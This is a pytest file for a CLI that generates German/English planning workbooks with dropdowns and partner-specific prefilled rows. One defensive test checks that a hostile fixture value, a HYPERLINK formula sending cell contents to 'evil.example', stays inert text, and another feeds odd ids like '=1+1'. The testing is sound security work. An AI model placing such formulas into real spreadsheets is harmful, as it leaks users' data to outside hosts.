"""Workbooks to fill in: the blank template's help, and partner workbooks prefilled with an actor's part."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

import cli
from graph.schema import load_schema

#: A small hand-made overview: FB 56 leads SEP and AP (proposed), partners JHP (ends 2020), pursues Z3
#: (stated in FB 61's MP) and Z4 (stated nowhere), leads SozB, organises E1 and attends E2.
OVERVIEW = Path(__file__).parent / "fixtures" / "exchange" / "overview"
OFFSET = "OFFSET('{0}'!$A$2,0,0,MAX(1,COUNTA('{0}'!$A:$A)-1),1)"


def run(*args: str):
    return CliRunner().invoke(cli.main, [str(a) for a in args])


def ids(sheet) -> list[str]:
    return [row[0] for row in sheet.iter_rows(min_row=2, values_only=True) if row[0] is not None]


def validations(sheet) -> dict[str, tuple[str, bool]]:
    """Column letter -> (list formula, whether Excel refuses other values with a warning)."""
    found = {}
    for check in sheet.data_validations.dataValidation:
        assert check.type == "list"
        (where,) = str(check.sqref).split()
        letter = re.match(r"([A-Z]+)2:\1(\d+)$", where)
        assert letter and letter.group(2) == "1048576", where
        found[letter.group(1)] = (check.formula1, bool(check.showErrorMessage))
    return found


# ------------------------------------------------------------ the blank template


#: Every dropdown of the blank template, by tab and column letter (written by hand from the README's table).
BLANK = {
    "Akteure": {
        "C": ('"Fachbereich,Eigenbetrieb,externer Partner,Ausschuss,Gremium,Körperschaft"', True),
        "D": (OFFSET.format("Akteure"), False),
        "E": (OFFSET.format("Akteure"), False),
        "H": (OFFSET.format("Quellen"), False),
    },
    "Themen": {"C": (OFFSET.format("Themen"), False), "F": (OFFSET.format("Quellen"), False)},
    "Planwerke": {
        "D": (OFFSET.format("Akteure"), True),
        "E": (OFFSET.format("Akteure"), False),
        "F": (OFFSET.format("Themen"), False),
        "H": ('"aktiv,geplant,vorgeschlagen,beendet"', True),
        "L": (OFFSET.format("Quellen"), False),
    },
    "Ziele": {
        "C": (OFFSET.format("Planwerke"), False),
        "D": (OFFSET.format("Akteure"), False),
        "E": (OFFSET.format("Themen"), False),
        "F": (OFFSET.format("Ziele"), False),
        "I": (OFFSET.format("Quellen"), False),
    },
    "Instrumente": {
        "D": (OFFSET.format("Akteure"), True),
        "E": (OFFSET.format("Ziele"), False),
        "F": (OFFSET.format("Themen"), False),
        "G": ('"aktiv,geplant,vorgeschlagen,beendet"', True),
        "J": (OFFSET.format("Quellen"), False),
    },
    "Veranstaltungen": {
        "E": (OFFSET.format("Akteure"), False),
        "F": (OFFSET.format("Akteure"), False),
        "G": (OFFSET.format("Themen"), False),
        "I": (OFFSET.format("Quellen"), False),
    },
    "Quellen": {"F": (OFFSET.format("Quellen"), False)},
}


def test_blank_template_has_dropdowns_for_type_status_and_references(tmp_path):
    result = run("template", "-o", tmp_path / "vorlage.xlsx")
    assert result.exit_code == 0, result.output
    book = load_workbook(tmp_path / "vorlage.xlsx")
    assert {title: validations(book[title]) for title in BLANK} == BLANK


def test_blank_template_dropdowns_are_in_the_xml(tmp_path):
    path = tmp_path / "vorlage.xlsx"
    assert run("template", "-o", path).exit_code == 0
    archive = zipfile.ZipFile(path)
    book = archive.read("xl/workbook.xml").decode()
    tabs = re.findall(r'<sheet [^>]*name="([^"]+)"', book)
    assert tabs == [
        "# Anleitung",
        "Akteure",
        "Themen",
        "Planwerke",
        "Ziele",
        "Instrumente",
        "Veranstaltungen",
        "Quellen",
    ]
    plans = archive.read("xl/worksheets/sheet4.xml").decode()
    owner = re.search(r'<dataValidation [^>]*sqref="D2:D1048576"[^>]*>(.*?)</dataValidation>', plans).group(0)
    assert 'type="list"' in owner and 'errorStyle="warning"' in owner
    assert "<formula1>OFFSET('Akteure'!$A$2,0,0,MAX(1,COUNTA('Akteure'!$A:$A)-1),1)</formula1>" in owner
    status = re.search(r'<dataValidation [^>]*sqref="H2:H1048576"[^>]*>(.*?)</dataValidation>', plans)
    assert status.group(1) == '<formula1>"aktiv,geplant,vorgeschlagen,beendet"</formula1>'
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert not re.search(r"<f[ >]", archive.read(name).decode()), name  # no formula in any cell


@pytest.mark.parametrize("lang", ["de", "en"])
def test_explanation_sheet_names_every_sheet_and_column(tmp_path, lang):
    path = tmp_path / "vorlage.xlsx"
    assert run("template", "--lang", lang, "-o", path).exit_code == 0
    book = load_workbook(path)
    guide = book.worksheets[0]
    assert guide.title == {"de": "# Anleitung", "en": "# How to fill in"}[lang]
    assert (
        guide["A1"].value
        == {"de": "So füllen Sie die Arbeitsmappe aus", "en": "How to fill in the workbook"}[lang]
    )
    rows = list(guide.iter_rows(min_row=2, values_only=True))
    for sheet in load_schema().sheets:
        name = sheet.name_de if lang == "de" else sheet.key
        start = next(i for i, r in enumerate(rows) if r[0] == name)
        explained = {r[0]: (r[1], r[2]) for r in rows[start + 1 : start + 1 + len(sheet.columns)]}
        headers = [c.header_de if lang == "de" else c.key for c in sheet.columns]
        assert list(explained) == headers, name
        assert all(meaning for meaning, _ in explained.values()), name  # every column has its comment
    plans = next(i for i, r in enumerate(rows) if r[0] == ("Planwerke" if lang == "de" else "plans"))
    owner = rows[plans + 4]
    assert (
        owner
        == {
            "de": ("Federführung", "Der federführende Akteur.", "Pflichtfeld; ID aus dem Blatt Akteure"),
            "en": ("owner", "The actor that leads the plan.", "required; an id of the sheet actors"),
        }[lang]
    )


# ------------------------------------------------------------ partner workbooks


#: FB 56's part of OVERVIEW, written by hand: (ids in the order of the sheet, ids it owns).
FB56 = {
    "Akteure": (["FB 56", "AGW", "FB 45", "FB 61", "SP"], {"FB 56"}),  # itself first, then every actor
    "Themen": (["armut", "bildung", "kinderarmut", "wohnen", "digital"], set()),  # shared themes first
    "Planwerke": (["AP", "SEP", "JHP", "MP"], {"AP", "SEP"}),  # MP: Z3 names it
    "Ziele": (["Z1", "Z2", "Z3", "Z5", "Z4"], {"Z1", "Z4"}),  # shared goals first; Z4: pursued, in no plan
    "Instrumente": (["SozB"], {"SozB"}),
    "Veranstaltungen": (["E1", "E2"], {"E1"}),
    "Quellen": (["Vorlage 1"], set()),  # FB 56's Quelle names it
}


@pytest.fixture
def fb56(tmp_path) -> Path:
    path = tmp_path / "FB56.xlsx"
    result = run("template", "--for", "FB 56", "--data", OVERVIEW, "-o", path)
    assert result.exit_code == 0, result.output
    assert result.stderr.strip().endswith(f"wrote {path}: 23 rows, 7 of them FB 56's own")
    return path


def test_partner_workbook_holds_the_actors_part_and_marks_its_own_rows(fb56):
    book = load_workbook(fb56)
    assert book.sheetnames[0] == "# Anleitung"
    for title, (expected, own) in FB56.items():
        sheet = book[title]
        assert ids(sheet) == expected, title
        headers = [c.value for c in sheet[1]]
        assert headers[-1] == "# Eintrag"
        marks = {r[0]: r[-1] for r in sheet.iter_rows(min_row=2, values_only=True)}
        assert marks == {i: "Ihr Eintrag" if i in own else "zur Information" for i in expected}, title
        for row in sheet.iter_rows(min_row=2):
            grey = row[0].fill.fgColor.rgb.endswith("EDEDED")
            assert grey == (row[0].value not in own), (title, row[0].value)
    record = book["# sozialgraph"]
    assert record.sheet_state == "veryHidden"
    owned = {
        (r[1], r[2]) for r in record.iter_rows(min_row=2, values_only=True) if r[0] == "row" and r[4] == "yes"
    }
    assert owned == {
        ("actors", "FB 56"), ("plans", "AP"), ("plans", "SEP"), ("goals", "Z1"), ("goals", "Z4"),
        ("instruments", "SozB"), ("events", "E1"),
    }  # fmt: skip
    assert book["# Listen"].sheet_state == "hidden"


def test_partner_workbook_loads_as_it_is(fb56):
    result = run("validate", "--data", fb56)
    assert result.exit_code == 0, result.output
    # the overview has 156 triples; FB 56's part lacks only KiMo (FB 45's instrument): 8 triples
    assert result.stdout == f"{fb56}: valid (148 triples)\n"


def test_partner_workbook_is_read_by_pandas(fb56):
    sheets = pd.read_excel(fb56, sheet_name=None, dtype=object)
    assert list(sheets) == ["# Anleitung", *FB56, "# Listen", "# sozialgraph"]
    plans = sheets["Planwerke"].set_index("ID")
    assert plans.loc["SEP", "Federführung"] == "FB 56"
    assert plans.loc["SEP", "Beteiligte"] == "AGW; FB 45"
    assert plans.loc["SEP", "Jahr"] == 2017
    assert plans.loc["AP", "Status"] == "vorgeschlagen"
    assert str(plans.loc["JHP", "Ende"])[:10] == "2020-12-31"
    goals = sheets["Ziele"].set_index("ID")
    assert goals.loc["Z1", "SDG"] == "1.2" and goals.loc["Z2", "Oberziel"] == "Z1"
    assert sheets["Veranstaltungen"].set_index("ID").loc["E1", "Teilnehmende"] == "AGW; FB 45"


def test_partner_workbook_offers_the_overviews_values(fb56):
    book = load_workbook(fb56)
    plans = validations(book["Planwerke"])
    assert plans["C"] == ("'# Listen'!$A$2:$A$5", False)  # type: free text, the plan types offered
    assert plans["D"] == (OFFSET.format("Akteure"), True)
    assert plans["H"] == ('"aktiv,geplant,vorgeschlagen,beendet"', True)
    lists = book["# Listen"]
    assert [c.value for c in lists[1]] == [
        "Planwerke: Typ",
        "Instrumente: Typ",
        "Veranstaltungen: Typ",
        "Quellen: Typ",
    ]
    assert [r[0] for r in lists.iter_rows(min_row=2, values_only=True)] == [
        "Aktionsplan", "Entwicklungsplan", "Fachplan", "Masterplan"
    ]  # fmt: skip
    guide = [r[1] for r in book["# Anleitung"].iter_rows(min_row=2, max_row=4, values_only=True)]
    assert guide[0].startswith(
        "Diese Arbeitsmappe enthält, was die Sozialplanung über Fachbereich Soziales (FB 56) weiß"
    )


def test_english_partner_workbook(tmp_path):
    path = tmp_path / "FB45.xlsx"
    assert run("template", "--for", "FB 45", "--data", OVERVIEW, "--lang", "en", "-o", path).exit_code == 0
    sheets = pd.read_excel(path, sheet_name=None, dtype=object)
    assert list(sheets)[:3] == ["# How to fill in", "actors", "themes"]
    plans = sheets["plans"].set_index("id")
    assert list(plans.index) == ["JHP", "SEP"]
    assert plans.loc["JHP", "status"] == "active" and plans.loc["JHP", "# entry"] == "yours"
    assert plans.loc["SEP", "# entry"] == "for information"


def test_partner_workbook_counts_the_statuses_asked_for(tmp_path):
    path = tmp_path / "FB56.xlsx"
    result = run("template", "--for", "FB 56", "--data", OVERVIEW, "--status", "aktiv,geplant", "-o", path)
    assert result.exit_code == 0, result.output
    # JHP has ended (31.12.2020): FB 56 no longer works on Z5 through it; Z2 stays (SozB serves it)
    assert ids(load_workbook(path)["Ziele"]) == ["Z1", "Z2", "Z3", "Z4"]


def test_unknown_actor_and_misplaced_options(tmp_path):
    result = run("template", "--for", "FB 65", "--data", OVERVIEW, "-o", tmp_path / "x.xlsx")
    assert result.exit_code == 1
    assert "Error: no actor with id 'FB 65' (did you mean" in result.stderr
    result = run("template", "--data", OVERVIEW, "-o", tmp_path / "x.xlsx")
    assert result.exit_code == 2
    assert "--data, --store and --endpoint go with --for ACTOR" in result.stderr
    assert not (tmp_path / "x.xlsx").exists()


def test_partner_workbook_written_from_a_store(tmp_path, fb56):
    store = tmp_path / "store"
    assert run("load", "--data", OVERVIEW, "--dataset", "stadt", "--store", store).exit_code == 0
    path = tmp_path / "aus-dem-store.xlsx"
    result = run("template", "--for", "FB 56", "--store", store, "-o", path)
    assert result.exit_code == 0, result.output
    a, b = (pd.read_excel(p, sheet_name=None, dtype=object) for p in (fb56, path))
    for title in FB56:
        pd.testing.assert_frame_equal(a[title], b[title])


def test_hostile_text_stays_text_in_a_partner_workbook(tmp_path):
    hostile = Path(__file__).parent / "fixtures" / "output" / "hostile"
    path = tmp_path / "p.xlsx"
    assert run("template", "--for", "FB 56", "--data", hostile, "-o", path).exit_code == 0
    archive = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert not re.search(r"<f[ >]", archive.read(name).decode()), name
    actors = pd.read_excel(path, sheet_name="Akteure", dtype=object).set_index("ID")
    assert actors.loc["FB 56", "Name"] == '=HYPERLINK("http://evil.example/?d="&A1;"Klick")'


@pytest.mark.parametrize("value", ["", "-1", "'", "=1+1", "a b", "<x>", "😀", "\t", "FB 56\x00"])
def test_odd_actor_ids_give_a_message_never_a_traceback(tmp_path, value):
    result = run("template", "--for", value, "--data", OVERVIEW, "-o", tmp_path / "x.xlsx")
    assert result.exit_code in (1, 2), result.output
    assert "internal error" not in result.stderr and "Traceback" not in result.output
    assert not (tmp_path / "x.xlsx").exists()
